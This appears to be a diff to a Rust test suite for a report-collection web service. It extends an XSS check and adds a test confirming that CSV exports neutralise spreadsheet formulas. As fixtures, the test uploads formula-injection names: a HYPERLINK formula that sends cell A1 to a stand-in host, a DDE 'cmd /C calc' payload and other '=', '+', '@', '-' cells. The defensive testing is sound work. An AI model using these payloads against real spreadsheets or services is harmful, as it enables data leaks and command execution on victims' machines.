@@ -892,7 +892,13 @@ fn pages_never_carry_report_text_as_html() {
         .starts_with("application/json"));
     // No page has the report's text or name in it, escaped or not: the pages put
     // report text into the document with textContent only.
-    for path in ["/", "/rules", &format!("/collections/{}", col.id)] {
+    for path in [
+        "/",
+        "/rules",
+        &format!("/collections/{}", col.id),
+        "/static/check.js",
+        "/static/collection.js",
+    ] {
         let page = get(&c, &s, path, None).text().expect("page");
         assert!(!page.contains("nianbao-xss"), "{path}");
         assert!(!page.contains("<b>collection</b>"), "{path}");
@@ -926,4 +932,47 @@ fn pages_never_carry_report_text_as_html() {
             assert!(page.contains(&escaped(text)), "{text}");
         }
     }
+}
+
+#[test]
+fn table_csv_neutralises_cells_a_spreadsheet_would_run() {
+    let s = Server::start();
+    let c = client();
+    let col = s.create_collection(&c, "csv", 2024);
+    let evil = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")";
+    for name in [evil, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"] {
+        let res = c
+            .post(s.url(&col.path("/reports")))
+            .query(&[("name", name)])
+            .bearer_auth(&col.upload)
+            .header("Content-Type", "text/markdown")
+            .body(fixture_bytes("pingtan-2024.md"))
+            .send()
+            .expect("POST");
+        assert_eq!(res.status(), 201, "{name}");
+        assert_eq!(json(res)["report"]["path"], name);
+    }
+    let csv = get(&c, &s, &col.path("/table.csv"), Some(&col.admin))
+        .text()
+        .expect("csv");
+    let mut records = 0;
+    for line in csv.lines().skip(1) {
+        // The first cell is the report's name; quoted by RFC 4180 when it holds a quote or comma.
+        let first = line.trim_start_matches('"');
+        assert!(
+            !first.starts_with(['=', '+', '-', '@']),
+            "a cell a spreadsheet would run: {line}"
+        );
+        records += 1;
+    }
+    assert!(records > 40, "{csv}");
+    assert!(
+        csv.contains("'=HYPERLINK(\"\"http://example.invalid/"),
+        "{csv}"
+    );
+    assert!(csv.contains("'+cmd|"));
+    assert!(csv.contains("'@SUM(1+1)"));
+    assert!(csv.contains("'-2+3"));
+    // Plain numbers stay numbers.
+    assert!(csv.lines().skip(1).all(|l| !l.contains(",'0")), "{csv}");
 }
